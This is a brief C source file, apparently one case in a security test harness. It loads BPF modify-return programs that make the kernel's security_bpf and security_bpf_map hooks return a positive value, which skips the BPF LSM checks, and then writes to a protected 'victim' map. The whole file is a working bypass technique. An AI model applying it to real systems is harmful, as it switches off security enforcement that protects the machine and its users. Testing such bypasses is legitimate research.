// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * A program that answers in place of security_bpf and security_bpf_map: a positive number skips every LSM program there,
 * and bpf(2) takes only negative ones for a refusal. Then writes a map by its number.
 * Success: /victim/lsm opens.
 */
#include "bpf.h"

static void skip(const char *function)
{
	struct program program = {
		.type = BPF_PROG_TYPE_TRACING,
		.attach_type = BPF_MODIFY_RETURN,
		.attach_to = kernel_function(function),
	};
	int fd = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, 1), RETURN));

	must("BPF_RAW_TRACEPOINT_OPEN", attach_raw(fd, NULL));
}

static void run(void)
{
	uint32_t zero = 0, one = 1;
	int map;

	skip("security_bpf_map");
	skip("security_bpf");
	map = must("BPF_MAP_GET_FD_BY_ID", by_id(BPF_MAP_GET_FD_BY_ID, id_of("victim/maps/allowed"), 0));
	must("BPF_MAP_UPDATE_ELEM", update_map(map, &zero, &one, BPF_ANY));
}

ATTACK("answers in place of security_bpf, then writes a map", .run = run);
